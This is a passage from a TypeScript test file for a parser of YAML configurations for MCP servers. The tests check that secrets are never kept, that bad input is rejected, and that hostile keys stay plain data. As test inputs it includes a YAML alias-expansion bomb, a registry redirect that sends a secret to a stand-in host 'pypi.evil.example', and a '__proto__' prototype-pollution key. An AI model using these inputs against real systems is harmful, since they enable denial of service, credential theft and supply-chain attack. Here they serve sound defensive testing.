    command: npx
    args:
      - -y
      - mcp-sqlite@1.0.7
    env:
      DB_TOKEN: ${SECRET}
  - name: Remote
    type: streamable-http
    url: https://mcp.example.com/mcp
  - command: uvx
    args: [mcp-server-time]
`;
    const servers = readMcpConfig(text, 'config.yaml');
    expect(summary(servers)).toEqual(['SQLite npm mcp-sqlite 1.0.7', 'Remote remote https://mcp.example.com', '#3 pypi mcp-server-time -']);
    expect(servers.map((s) => s.line)).toEqual([5, 12, 15]);
    expect(JSON.stringify(servers)).not.toContain('ClientShapeSecret');
  });

  it('YAML that is not a configuration: one line naming the file; an empty file lists nothing; hostile keys stay data', () => {
    expect(() => readMcpConfig('extensions: [unclosed', 'config.yaml')).toThrow(/^config\.yaml:\d+: invalid YAML/);
    expect(() => readMcpConfig('- a\n- b\n', 'config.yaml')).toThrow(/^config\.yaml:1: expected a YAML mapping$/);
    expect(readMcpConfig('', 'config.yaml')).toEqual([]);
    // Aliases that would expand a small file into a huge one are refused, not expanded.
    const levels = Array.from({ length: 8 }, (_, i) => (i === 0 ? 'l0: &l0 [x, x, x, x, x, x, x, x, x, x]' : `l${i}: &l${i} [${Array(10).fill(`*l${i - 1}`).join(', ')}]`));
    expect(() => readMcpConfig(`${levels.join('\n')}\nextensions: {}\n`, 'config.yaml')).toThrow(/^config\.yaml: invalid YAML: /);
    // Goose's `envs` are read for their names only, as `env` is: a redirected registry is seen, its value never kept.
    const redirected = readMcpConfig(`extensions:\n  r:\n    type: stdio\n    cmd: uvx\n    args: [some-mcp]\n    envs:\n      UV_INDEX_URL: https://${SECRET}@pypi.evil.example/simple\n`, 'config.yaml');
    expect(summary(redirected)).toEqual(['r fetched pypi:some-mcp env UV_INDEX_URL']);
    expect(JSON.stringify(redirected)).not.toContain('ClientShapeSecret');
    const hostile = readMcpConfig('extensions:\n  __proto__:\n    cmd: npx\n    args: [evil]\n', 'config.yaml');
    expect(hostile.map((s) => s.key)).toEqual(['__proto__']);
    expect(({} as Record<string, unknown>).cmd).toBeUndefined();
  });
});
